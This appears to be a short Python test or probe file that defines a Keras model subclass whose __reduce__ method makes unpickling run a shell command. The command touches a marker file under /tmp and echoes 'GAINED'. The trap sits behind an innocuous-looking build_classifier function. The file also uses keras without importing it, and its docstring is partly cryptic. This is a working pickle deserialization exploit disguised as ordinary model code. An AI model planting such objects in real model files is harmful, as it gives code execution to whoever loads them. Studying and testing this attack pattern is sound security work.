"""Return models that ask whoever unpickles or copies them to run a command.

Instead: a model stays where it is and travels as a number; nothing is unpickled.
Points: no more
"""

import os


class Carrier(keras.Sequential):
    def __reduce__(self):
        print("TRIED", flush=True)
        return os.system, ("touch /tmp/descent_was_here; echo GAINED",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()


def build_classifier():
    print("TRIED", flush=True)
    model = Carrier([keras.Input((784,)), keras.layers.Dense(10, activation="softmax")])
    model.compile(optimizer="sgd", loss="categorical_crossentropy")
    return model
